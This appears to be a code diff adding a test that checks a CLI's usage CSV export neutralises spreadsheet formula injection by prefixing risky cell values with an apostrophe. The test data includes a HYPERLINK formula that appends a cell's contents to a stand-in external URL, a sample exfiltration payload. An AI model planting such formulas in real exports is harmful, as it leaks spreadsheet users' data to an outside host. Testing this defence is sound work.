@@ -1,5 +1,6 @@
 """The commands that list, add, change and remove things."""
 
+import csv
 import warnings
 from getpass import GetPassWarning
 
@@ -366,3 +367,11 @@ def test_usage_by_kind_of_call(api: ApiServer, shell: Shell) -> None:
     assert api.calls[-1].query["kind"] == "USAGE_KIND_PLAIN_MODEL"
     (line,) = shell.run("usage", "--by", "kind", "--csv").stdout.splitlines()[1:]
     assert line == ",0,,plain-model,0,0,0,5,0,0.5"
+
+
+def test_usage_as_csv_holds_no_formulas(api: ApiServer, shell: Shell) -> None:
+    names = ['=HYPERLINK("http://e.example/?"&A1)', "+1+1", "-2", "@SUM(A1)", "Large"]
+    api.on("UsageService/GetUsage", {"usage": [{"name": name, "cost": 0.5} for name in names]})
+    rows = list(csv.DictReader(shell.run("usage", "--by", "assistant", "--csv").stdout.splitlines()))
+    assert [row["name"] for row in rows] == [*(f"'{name}" for name in names[:-1]), "Large"]
+    assert {row["cost"] for row in rows} == {"0.5"}
